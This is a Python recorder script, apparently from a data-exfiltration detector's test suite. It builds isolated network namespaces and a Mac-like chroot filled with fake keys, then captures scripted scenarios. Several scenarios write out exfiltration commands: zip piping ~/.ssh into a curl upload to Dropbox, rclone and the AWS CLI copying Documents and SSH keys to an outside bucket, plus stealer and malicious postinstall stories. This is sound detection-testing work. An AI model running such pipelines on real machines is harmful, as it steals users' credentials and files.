#!/usr/bin/env python3
"""Makes every recording under tests/recordings/ afresh: real clients, real TLS, a Mac-shaped root directory, two namespaces.

    sudo python3 tests/recordings/record.py [--only NAME]... [--out DIR] [--keep DIR]

Needs Linux, root, and: iproute2 util-linux coreutils strace tcpdump openssl zsh zip curl rclone nodejs, and for the Python that
runs this script: requests and awscli. Nothing leaves the machine: the client namespace has one link, to the server namespace.
README.md says what is real in the result and what is not.
"""
import argparse
import glob
import gzip
import io
import json
import os
import pty
import random
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
import tty

sys.dont_write_bytecode = True
import eslog        # noqa: E402
import pktap        # noqa: E402
import serve        # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
CLIENT, SERVER = "cw-client", "cw-server"
CLIENT_MAC, GATEWAY_MAC = "00:00:5e:00:53:17", "00:00:5e:00:53:01"
HOME = "/Users/alice"
ENV = {"HOME": HOME, "USER": "alice", "LOGNAME": "alice", "SHELL": "/bin/zsh", "TMPDIR": "/private/tmp", "LANG": "en_US.UTF-8",
       "PATH": "/opt/homebrew/bin:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"}
CA = "/etc/ssl/cert.pem"
ARQ = "/Applications/Arq.app/Contents/Resources/ArqAgent.app/Contents/MacOS/ArqAgent"
PYVER = "%d.%d" % sys.version_info[:2]
PYFULL = "%d.%d.%d" % sys.version_info[:3]
CELLAR = "/opt/homebrew/Cellar/python@%s/%s" % (PYVER, PYFULL)
PYTHON = CELLAR + "/bin/python" + PYVER
TOOLS = {"/bin": "zsh cp mv rm mkdir ls cat sleep date".split(),
         "/usr/bin": "curl zip env head tail wc grep sort uname id tr sed stat".split()}


def sh(*words, **kw):
    return subprocess.run(words, check=True, text=True, capture_output=True, **kw).stdout


# ---------------------------------------------------------------- two namespaces and one link
def network_up():
    network_down()
    for ns in (CLIENT, SERVER):
        sh("ip", "netns", "add", ns)
        sh("ip", "-n", ns, "link", "set", "lo", "up")
        for knob in ("default", "all"):
            sh("ip", "netns", "exec", ns, "sh", "-c", f"echo 0 >/proc/sys/net/ipv6/conf/{knob}/accept_dad; echo 0 >/proc/sys/net/ipv6/conf/{knob}/accept_ra")
    # where a Mac's ephemeral ports begin
    sh("ip", "netns", "exec", CLIENT, "sh", "-c", "echo 49152 65535 >/proc/sys/net/ipv4/ip_local_port_range")
    sh("ip", "-n", CLIENT, "link", "add", "en0", "type", "veth", "peer", "name", "gw0", "netns", SERVER)
    for ns, dev, mac in ((CLIENT, "en0", CLIENT_MAC), (SERVER, "gw0", GATEWAY_MAC)):
        # one segment per packet: a Mac's tap shows frames, not offloaded bundles
        sh("ip", "-n", ns, "link", "set", dev, "address", mac, "gso_max_segs", "1")
    sh("ip", "-n", CLIENT, "addr", "add", "192.168.1.23/24", "dev", "en0")
    sh("ip", "-n", CLIENT, "addr", "add", "2001:db8:1::23/64", "dev", "en0", "nodad")
    sh("ip", "-n", SERVER, "addr", "add", "192.168.1.1/24", "dev", "gw0")
    sh("ip", "-n", SERVER, "addr", "add", "2001:db8:1::1/64", "dev", "gw0", "nodad")
    for v4 in {h[1] for h in serve.HOSTS.values()}:
        sh("ip", "-n", SERVER, "addr", "add", v4 + "/32", "dev", "lo")
    for v6 in {h[2] for h in serve.HOSTS.values() if h[2]}:
        sh("ip", "-n", SERVER, "addr", "add", v6 + "/128", "dev", "lo", "nodad")
    sh("ip", "-n", CLIENT, "link", "set", "en0", "up")
    sh("ip", "-n", SERVER, "link", "set", "gw0", "up")
    sh("ip", "-n", CLIENT, "route", "add", "default", "via", "192.168.1.1")
    sh("ip", "-n", CLIENT, "-6", "route", "add", "default", "via", "2001:db8:1::1")


def network_down():
    for ns in (CLIENT, SERVER):
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)


def certificates(work):
    """A certificate authority that lives for this run only."""
    names = ",".join("DNS:" + h for h in serve.HOSTS)
    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj", "/CN=cloudward test CA",
       "-keyout", work + "/ca.key", "-out", work + "/ca.pem")
    sh("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=cloudward test server",
       "-keyout", work + "/server.key", "-out", work + "/server.csr")
    with open(work + "/ext", "w") as f:
        f.write("subjectAltName=%s\nkeyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n" % names)
    sh("openssl", "x509", "-req", "-in", work + "/server.csr", "-CA", work + "/ca.pem", "-CAkey", work + "/ca.key", "-days", "2", "-CAcreateserial",
       "-extfile", work + "/ext", "-out", work + "/server.pem")
    os.remove(work + "/ca.key")


# ---------------------------------------------------------------- a root directory laid out like a Mac
def bind(source, target):
    if os.path.isdir(source):
        os.makedirs(target, exist_ok=True)
    else:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        open(target, "a").close()
    sh("mount", "--rbind", source, target)


def put(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)


def make_root(root, work):
    os.makedirs(root)
    sh("mount", "-t", "tmpfs", "-o", "mode=755", "tmpfs", root)
    for d in ("private/etc/ssl", "private/var/folders", "private/tmp", "bin", "usr/bin", "Users", "opt/homebrew/bin", "dev", "proc"):
        os.makedirs(root + "/" + d)
    os.chmod(root + "/private/tmp", 0o1777)
    for d in ("tmp", "etc", "var"):
        os.symlink("private/" + d, root + "/" + d)
    bind("/proc", root + "/proc")
    bind("/dev", root + "/dev")
    for d in glob.glob("/usr/lib/*-linux-gnu") + glob.glob("/usr/local/lib") + ["/usr/share/terminfo", "/lib/terminfo", "/usr/share/zoneinfo", "/usr/lib64"]:
        if os.path.isdir(d):
            bind(d, root + d)
    bind("/usr/share/zsh", root + "/usr/share/zsh")
    for d in glob.glob("/lib/*-linux-gnu") + glob.glob("/lib64"):
        bind(os.path.realpath(d), root + d)
    for f in glob.glob("/lib/ld-linux*"):
        bind(os.path.realpath(f), root + f)
    for d, names in TOOLS.items():
        for n in names:
            shutil.copy(shutil.which(n), root + d + "/" + n)
    python_into(root)
    for name in ("rclone", "node"):
        bind(os.path.realpath(shutil.which(name)), root + "/opt/homebrew/bin/" + name)
    bind(os.path.realpath(shutil.which("rclone")), root + ARQ)
    put(root + "/etc/passwd", "root:*:0:0:System Administrator:/var/root:/bin/sh\nalice:*:501:20:Alice:%s:/bin/zsh\n" % HOME)
    put(root + "/etc/group", "wheel:*:0:root\nstaff:*:20:root,alice\n")
    put(root + "/etc/nsswitch.conf", "passwd: files\ngroup: files\nhosts: files dns\n")
    put(root + "/etc/hosts", "127.0.0.1\tlocalhost\n::1\tlocalhost\n")
    put(root + "/etc/resolv.conf", "nameserver %s\noptions timeout:2\n" % serve.RESOLVER)
    put(root + "/etc/protocols", "tcp\t6\tTCP\nudp\t17\tUDP\n")
    put(root + "/etc/services", "https\t443/tcp\ndomain\t53/udp\n")
    put(root + "/etc/zshrc", "PS1='%n@%m %1~ %# '\n")
    shutil.copy(work + "/ca.pem", root + "/etc/ssl/cert.pem")
    os.makedirs(root + "/etc/ssl/certs")
    os.symlink("../cert.pem", root + "/etc/ssl/certs/ca-certificates.crt")


def python_into(root):
    """This interpreter and its packages, at Homebrew's place."""
    paths = sysconfig.get_paths()
    bind(paths["stdlib"], root + CELLAR + "/lib/python" + PYVER)
    put(root + PYTHON, open(os.path.realpath(sys.executable), "rb").read(), 0o755)
    os.symlink(PYTHON, root + "/opt/homebrew/bin/python3")
    for lib in glob.glob(sysconfig.get_config_var("LIBDIR") + "/libpython%s.so*" % PYVER):
        put(root + lib, open(lib, "rb").read(), 0o755)        # where its run path says; such opens are dropped
    if not paths["purelib"].startswith(paths["stdlib"]):
        bind(paths["purelib"], root + "/opt/homebrew/lib/python%s/site-packages" % PYVER)
        ENV["PYTHONPATH"] = "/opt/homebrew/lib/python%s/site-packages" % PYVER
    put(root + "/opt/homebrew/bin/aws", "#!%s\nimport sys\n\nimport awscli.clidriver\n\nsys.exit(awscli.clidriver.main())\n" % PYTHON, 0o755)


def make_home(root):
    """Alice's files: made up, of believable size, the same in every run."""
    shutil.rmtree(root + HOME, ignore_errors=True)
    rng = random.Random(20)

    def armour(kind, n):
        import base64
        text = base64.b64encode(rng.randbytes(n)).decode()
        rows = "\n".join(text[i:i + 70] for i in range(0, len(text), 70))
        return "-----BEGIN %s-----\n%s\n-----END %s-----\n" % (kind, rows, kind)

    home = root + HOME
    files = {
        ".ssh/id_ed25519": armour("OPENSSH PRIVATE KEY", 300), ".ssh/id_rsa": armour("OPENSSH PRIVATE KEY", 2600),
        ".ssh/deploy.pem": armour("RSA PRIVATE KEY", 2350), ".ssh/id_ed25519.pub": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE alice@mac\n",
        ".ssh/config": "Host build\n  HostName build.example.com\n  User alice\n",
        ".ssh/known_hosts": "".join("host%d.example.com ssh-ed25519 %s\n" % (i, armour("", 51).split("\n")[1]) for i in range(30)),
        ".aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
        ".aws/config": "[default]\nregion = us-east-1\n",
        ".npmrc": "//registry.example.com/:_authToken=npm_EXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE\n",
        ".zshrc": "unsetopt zle prompt_sp\nHISTFILE=~/.zsh_history SAVEHIST=100\n", ".zsh_history": "ls\n",
        "Documents/plan.docx": rng.randbytes(24_310), "Documents/budget.xlsx": rng.randbytes(31_002), "Documents/minutes/2026-05.pdf": rng.randbytes(18_411),
        "Library/Keychains/login.keychain-db": b"kych" + rng.randbytes(21_000),
        "Library/Application Support/Google/Chrome/Default/Login Data": b"SQLite format 3\0" + rng.randbytes(40_944),
        "Library/Caches/notes/state.json": "{}\n", "Library/Application Support/ArqAgent/transfer.conf": "",
        "Pictures/holiday.jpg": b"\xff\xd8\xff\xe0" + rng.randbytes(22_000),
        "src/shop/.env": "DATABASE_URL=postgres://shop:EXAMPLE@db.example.com/shop\nSTRIPE_KEY=sk_test_EXAMPLE\n" + "".join(
            "FLAG_%03d=%s\n" % (i, armour("", 24).split("\n")[1]) for i in range(60)),
        "src/shop/index.js": "console.log('shop')\n" * 20, "src/shop/package.json": '{"name":"shop","version":"1.0.0"}\n',
        "src/notes/todo.txt": "".join("item %d\n" % i for i in range(40)),
    }
    for rel, data in files.items():
        put(home + "/" + rel, data, 0o600 if rel.startswith((".ssh/", ".aws/", "Library/Keychains")) else 0o644)
    for source, rel, mode in (("invoice-viewer.sh", "Downloads/invoice-viewer.sh", 0o755), ("pull.py", "src/notes/pull.py", 0o644),
                              ("upload.py", "Downloads/sync-helper/upload.py", 0o644),
                              ("postinstall.mjs", "src/shop/node_modules/left-padder/postinstall.mjs", 0o644)):
        put(home + "/" + rel, open(HERE + "/clients/" + source, "rb").read(), mode)
    for base, dirs, names in os.walk(home):
        for n in ["."] + names:
            path = base + "/" + n
            os.utime(path, (1_789_000_000, 1_789_000_000))
            os.chown(path, eslog.UID, eslog.GID)
    shutil.rmtree(root + "/private/tmp")
    os.makedirs(root + "/private/tmp")
    os.chmod(root + "/private/tmp", 0o1777)


# ---------------------------------------------------------------- running one story
def story_process(story, root, raw):
    """Starts the story's first program under strace, as alice, in the client namespace and the Mac-shaped root."""
    env = {**ENV, **story.get("env", {})}
    story["log"] = "%s/%s" % (raw, story["name"])
    story.setdefault("cwd", HOME)
    words = ["ip", "netns", "exec", CLIENT, "strace", "-ff", "-yy", "-v", "-s", "4096", "--seccomp-bpf", "--absolute-timestamps=format:unix,precision:ns",
             "-o", story["log"], "-e", "trace=" + eslog.SYSCALLS, "chroot", "--userspec=501:20", "--groups=20", root,
             "/usr/bin/env", "-i", "-C", story["cwd"]] + ["%s=%s" % kv for kv in env.items()] + story["argv"]
    if not story.get("pty"):
        return subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=open(story["log"] + "-stderr", "w"))
    leader, follower = pty.openpty()
    tty.setraw(leader)

    def own_terminal():
        os.setsid()
        import fcntl
        import termios
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    p = subprocess.Popen(words, stdin=follower, stdout=follower, stderr=follower, preexec_fn=own_terminal)
    os.close(follower)

    def read():
        with open(story["log"] + "-screen", "wb") as f:
            try:
                while chunk := os.read(leader, 65536):
                    f.write(chunk)
                    f.flush()
            except OSError:
                pass

    def typed():
        for pause, line in story["pty"]:
            time.sleep(pause)
            os.write(leader, line.encode() + b"\n")

    for job in (read, typed):
        threading.Thread(target=job, daemon=True).start()
    return p


def run(recording, root, work):
    """Runs a recording's stories together, in real time, under one capture; returns the world they made."""
    raw = "%s/raw-%s" % (work, recording["name"])
    os.makedirs(raw)
    make_home(root)
    # /private is part of the snapshot, so that the world knows which files are new
    world = eslog.World(root, recording, seed=recording["name"])
    lookup = {"terminal": world.ancestor(871, world.launchd, "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 90, eslog.UID)}
    dump = subprocess.Popen(["ip", "netns", "exec", CLIENT, "tcpdump", "-i", "en0", "-n", "-U", "-s", "0", "-B", "4096", "--time-stamp-precision=nano",
                             "-Z", "root", "-w", raw + "/en0.pcap"], stderr=open(raw + "/tcpdump.log", "w"))
    while "listening on" not in open(raw + "/tcpdump.log").read():
        time.sleep(0.1)
    time.sleep(0.3)
    began, running = time.time(), []
    for story in sorted(recording["stories"], key=lambda s: s.get("after", 0)):
        time.sleep(max(0, began + story.get("after", 0) - time.time()))
        running.append((story, story_process(story, root, raw)))
    for story, p in running:
        if p.wait(timeout=120) != 0:
            log = story["log"] + ("-screen" if story.get("pty") else "-stderr")
            print("  %s ended with %d:\n%s" % (story["name"], p.returncode, open(log, errors="replace").read()[-1500:]), file=sys.stderr)
    time.sleep(1.0)
    dump.terminate()
    dump.wait()
    last = 0
    for story in recording["stories"]:
        if story.get("pty"):
            # login(1) runs as root between Terminal and the shell
            last += 1
            login = world.ancestor(880 + last, lookup["terminal"], "/usr/bin/login", 100 + last)
            login.responsible, login.tty = lookup["terminal"], "/dev/ttys003"
            story.update(parent=login, via="/usr/bin/login")
        else:
            story.update(parent=world.launchd, via="/usr/libexec/xpcproxy")
    world.consume(recording["stories"])
    return world, pktap.Tap(raw + "/en0.pcap", world.owners, bytes.fromhex(CLIENT_MAC.replace(":", "")))


# ---------------------------------------------------------------- writing it down
def squeeze(path, data):
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as z:
        z.write(data)
    with open(path, "wb") as f:
        f.write(out.getvalue())


def exchanges(work, since):
    with open(work + "/server.jsonl") as f:
        return [row for row in map(json.loads, f) if row["time"] >= since]


def expected(recording, world, rows):
    """Ground truth: who read what comes from the strace logs, how many bytes arrived from the server's own log."""
    def alert(want):
        # the alert's sockets: opened by the uploader, below the script where there is one
        ports = {int(key.split("->")[0].rsplit(":", 1)[1]) for key, held in world.owners.items() for _, _, _, exe, words in held
                 if exe == want["uploader"] and ("script" not in want or any(want["script"].endswith(w.lstrip(".")) for w in words if "/" in w))}
        mine = [r for r in rows if r.get("host") == want["domain"] and r["port"] in ports]
        body = sum(r["body_in"] for r in mine)
        missing = set(want["reads_include"]) - {path for _, _, exe, path in world.truth_reads}
        assert mine and body and not missing, (recording["name"], want, mine, missing)
        return {"uploader": want["uploader"], "reads_include": want["reads_include"], "domain": want["domain"], "service": want["service"],
                "bytes_out_min": body, "script": want.get("script")}

    alerts = [alert(want) for want in recording["alerts"]]
    out = {"story": recording["story"], "verdict": "ALERT" if alerts else "NONE", "alerts": alerts}
    if "policy" in recording:
        out["policy"] = "policy.toml"
        out["alerts_without_policy"] = alerts + [alert(want) for want in recording["silenced"]]
        out["none"] = recording["none"]
    out["server_saw"] = [{"domain": r["host"], "sni": r["sni"], "method": r["method"], "body_in": r["body_in"], "body_out": r["body_out"], "tls": r["tls"]}
                         for r in rows if "host" in r]
    return out


def write(recording, world, tap, rows, out):
    d = out + "/" + recording["name"]
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    lines = world.lines()
    squeeze(d + "/events.ndjson.gz", ("\n".join(lines) + "\n").encode())
    form = recording["capture"]
    wire = io.BytesIO()
    tap.write(wire, form)
    squeeze(d + "/capture.%s.gz" % ("pcapng" if form == "pcapng" else "pcap"), wire.getvalue())
    with open(d + "/expected.json", "w") as f:
        json.dump(expected(recording, world, rows), f, indent=1)
        f.write("\n")
    if "policy" in recording:
        with open(d + "/policy.toml", "w") as f:
            f.write(recording["policy"])
    print("  %-20s %5d events %5d packets, %d without an owner, %7d + %7d bytes compressed" % (
        recording["name"], len(lines), len(tap.packets), tap.unowned, os.path.getsize(d + "/events.ndjson.gz"),
        os.path.getsize(glob.glob(d + "/capture.*")[0])))


# ---------------------------------------------------------------- the recordings
SSH, AWS = HOME + "/.ssh/", HOME + "/.aws/"
POLICY = """# The one thing the demo's company allows: its backup agent may copy documents to its own bucket.
# Everything not named here is the built-in default.

[[allow]]
name      = "corporate Arq backup"
process   = { team_id = "48ZCSDVL96", signing_id = "com.haystacksoftware.arqagent" }
sensitive = ["documents"]
services  = ["s3"]
tenants   = ["corp-backup"]
users     = "*"
reason    = "nightly backup of Documents to the company's bucket"
"""


def s3_env(prefix, region):
    return {prefix + k: v for k, v in {"TYPE": "s3", "PROVIDER": "AWS", "REGION": region, "ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
                                      "SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "NO_CHECK_BUCKET": "true"}.items()}


# the backup agent is rclone underneath; keep it from looking for its settings in other programs' files
ARQ_HOME = HOME + "/Library/Application Support/ArqAgent"
ARQ_ENV = {"RCLONE_CONFIG": ARQ_HOME + "/transfer.conf", "AWS_SHARED_CREDENTIALS_FILE": ARQ_HOME + "/credentials", "AWS_CONFIG_FILE": ARQ_HOME + "/config"}


def recordings():
    python = {"REQUESTS_CA_BUNDLE": CA, "AWS_CA_BUNDLE": CA}
    return [
        {"name": "demo", "version": 10, "capture": "v1", "policy": POLICY,
         "story": "One Mac, about twenty seconds. An unsigned script zips ~/.ssh and ~/.aws and uploads the archive by curl (the alert). Beside it: an allowed backup "
                  "agent copies ~/Documents to the company's bucket, a script reads a document and downloads a larger one by POST from the same host, and a "
                  "shell does everyday work, an upload of a holiday photo to the same host among it.",
         "stories": [
             {"name": "shell", "argv": ["/bin/zsh", "-i"], "env": {"TERM": "dumb"}, "pty": [
                 (1.5, "ls -l src/notes | head -5"), (1, "grep -c item src/notes/todo.txt"), (1.2, "curl -s https://www.example.com/ -o /tmp/page.html; wc -c /tmp/page.html"),
                 (3, "sort -r src/notes/todo.txt | tail -3 > /tmp/top.txt"), (3, "date; uname -m; id -un"), (2, "cp src/shop/index.js src/shop/index.js.bak; cat src/shop/package.json"),
                 (2, "curl -s -X POST https://content.dropboxapi.com/2/files/upload -H 'Authorization: Bearer sl.EXAMPLE' -H 'Dropbox-API-Arg: {\"path\":\"/p/h.jpg\"}' "
                     "-H 'Content-Type: application/octet-stream' --data-binary @Pictures/holiday.jpg -o /dev/null"),
                 (3, "mv /tmp/page.html /tmp/page-old.html; rm /tmp/top.txt"), (2, "curl -sI https://updates.example.net/feed.xml | head -1"), (3, "exit 0")]},
             {"name": "pull", "after": 3, "argv": ["/opt/homebrew/bin/python3", HOME + "/src/notes/pull.py"], "env": python},
             {"name": "arq", "after": 6, "argv": [ARQ, "copy", HOME + "/Documents", "corp:corp-backup/alice/Documents", "--transfers", "2"],
              "env": {**s3_env("RCLONE_CONFIG_CORP_", "eu-central-1"), **ARQ_ENV}},
             {"name": "stealer", "after": 8, "argv": ["/bin/zsh", "-i"], "env": {"TERM": "dumb"}, "pty": [
                 (1.5, "ls Downloads"), (1.5, "~/Downloads/invoice-viewer.sh"), (6, "exit 0")]},
         ],
         "alerts": [{"uploader": "/usr/bin/curl", "domain": "content.dropboxapi.com", "service": "dropbox", "script": HOME + "/Downloads/invoice-viewer.sh",
                     "reads_include": [SSH + "id_ed25519", SSH + "id_rsa", AWS + "credentials"]}],
         "silenced": [{"uploader": ARQ, "domain": "corp-backup.s3.eu-central-1.amazonaws.com", "service": "s3",
                       "reads_include": [HOME + "/Documents/plan.docx", HOME + "/Documents/budget.xlsx", HOME + "/Documents/minutes/2026-05.pdf"]}],
         "none": [{"uploader": ARQ, "domain": "corp-backup.s3.eu-central-1.amazonaws.com", "why": "policy.toml allows this agent, this bucket and this set"},
                  {"uploader": PYTHON, "domain": "content.dropboxapi.com", "why": "pull.py reads Documents/plan.docx and POSTs, but %d bytes come in and under 1 KiB goes out"
                   % serve.DOWNLOAD_BYTES},
                  {"uploader": "/usr/bin/curl", "domain": "content.dropboxapi.com", "why": "the other shell's curl uploads Pictures/holiday.jpg, which is not sensitive"}]},
        {"name": "curl-dropbox", "version": 9, "capture": "v1",
         "story": "zip writes ~/.ssh to a pipe, curl uploads what comes out of it; nothing is staged on disk.",
         "stories": [{"name": "pipe", "argv": ["/bin/zsh", "-c", "zip -q -r - ~/.ssh | curl -sS -X POST https://content.dropboxapi.com/2/files/upload "
                      "-H 'Authorization: Bearer sl.EXAMPLE' -H 'Content-Type: application/octet-stream' -H 'Dropbox-API-Arg: {\"path\":\"/in/a2.zip\"}' --data-binary @-; exit 0"]}],
         "alerts": [{"uploader": "/usr/bin/curl", "domain": "content.dropboxapi.com", "service": "dropbox", "reads_include": [SSH + "id_ed25519", SSH + "id_rsa"]}]},
        {"name": "rclone-s3", "version": 10, "token": "array", "capture": "v1",
         "story": "rclone copies ~/Documents to a stranger's bucket (audit tokens in array form).",
         "stories": [{"name": "rclone", "argv": ["/opt/homebrew/bin/rclone", "copy", HOME + "/Documents", "drop:acme-drop-7731/d"],
                      "env": s3_env("RCLONE_CONFIG_DROP_", "us-east-1")}],
         "alerts": [{"uploader": "/opt/homebrew/bin/rclone", "domain": "acme-drop-7731.s3.us-east-1.amazonaws.com", "service": "s3",
                     "reads_include": [HOME + "/Documents/plan.docx", HOME + "/Documents/budget.xlsx", HOME + "/Documents/minutes/2026-05.pdf"]}]},
        {"name": "awscli-s3", "version": 10, "capture": "v2", "library": 8,
         "story": "The AWS CLI copies ~/.ssh to a stranger's bucket (PKTAP v2 headers).",
         "stories": [{"name": "aws", "argv": ["/opt/homebrew/bin/aws", "s3", "cp", "--recursive", HOME + "/.ssh", "s3://acme-drop-7731/k/"],
                      "env": {**python, "AWS_EC2_METADATA_DISABLED": "true"}}],
         "alerts": [{"uploader": PYTHON, "domain": "acme-drop-7731.s3.amazonaws.com", "service": "s3", "script": "/opt/homebrew/bin/aws",
                     "reads_include": [SSH + "id_ed25519", SSH + "id_rsa", SSH + "deploy.pem"]}]},
        {"name": "requests-googleapis", "version": 11, "capture": "pcapng",
         "story": "A Python script posts the login keychain and Chrome's passwords to a Google Drive by requests (pcapng with Darwin process blocks).",
         "stories": [{"name": "python", "argv": ["/opt/homebrew/bin/python3", HOME + "/Downloads/sync-helper/upload.py"], "env": python}],
         "alerts": [{"uploader": PYTHON, "domain": "www.googleapis.com", "service": "google-drive", "script": HOME + "/Downloads/sync-helper/upload.py",
                     "reads_include": [HOME + "/Library/Keychains/login.keychain-db", HOME + "/Library/Application Support/Google/Chrome/Default/Login Data"]}]},
        {"name": "node-blob", "version": 10, "capture": "v1",
         "story": "A package's postinstall script gathers developer secrets and puts them to an Azure blob (Node, IPv6).",
         "stories": [{"name": "node", "argv": ["/opt/homebrew/bin/node", "node_modules/left-padder/postinstall.mjs"], "cwd": HOME + "/src/shop",
                      "env": {"NODE_EXTRA_CA_CERTS": CA}}],
         "alerts": [{"uploader": "/opt/homebrew/bin/node", "domain": "exfilacct01.blob.core.windows.net", "service": "azure-blob",
                     "script": HOME + "/src/shop/node_modules/left-padder/postinstall.mjs",
                     "reads_include": [HOME + "/.npmrc", AWS + "credentials", SSH + "id_ed25519", HOME + "/src/shop/.env"]}]},
    ]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--only", action="append", help="make this recording only")
    ap.add_argument("--out", default=HERE, help="where the recordings go (default: beside this script)")
    ap.add_argument("--keep", help="keep the strace logs and the raw capture in this directory")
    a = ap.parse_args()
    if os.environ.get("CLOUDWARD_RECORDER") != "inside":
        # mounts of its own, so that nothing stays behind
        os.environ["CLOUDWARD_RECORDER"] = "inside"
        os.execvp("unshare", ["unshare", "--mount", "--propagation", "private", sys.executable] + sys.argv)
    # on one CPU packets are captured in the order they were sent
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    work = tempfile.mkdtemp(prefix="cwrec-")
    os.chmod(work, 0o755)
    root = work + "/root"
    server = None
    try:
        network_up()
        certificates(work)
        make_root(root, work)
        server = subprocess.Popen(["ip", "netns", "exec", SERVER, sys.executable, HERE + "/serve.py", work], stdout=subprocess.PIPE, text=True)
        assert server.stdout.readline() == "ready\n"
        for recording in recordings():
            if a.only and recording["name"] not in a.only:
                continue
            since = time.time()
            world, tap = run(recording, root, work)
            write(recording, world, tap, exchanges(work, since), a.out)
    finally:
        if server:
            server.terminate()
            server.wait()
        network_down()
        if a.keep:
            for d in glob.glob(work + "/raw-*") + [work + "/server.jsonl"]:
                subprocess.run(["cp", "-r", d, a.keep], check=False)
        subprocess.run(["umount", "-R", root], capture_output=True)
        if root not in open("/proc/self/mountinfo").read():
            # never reach through a bind mount that would not go away
            shutil.rmtree(work, ignore_errors=True)
        else:
            print("left behind, still mounted: " + work, file=sys.stderr)


if __name__ == "__main__":
    main()
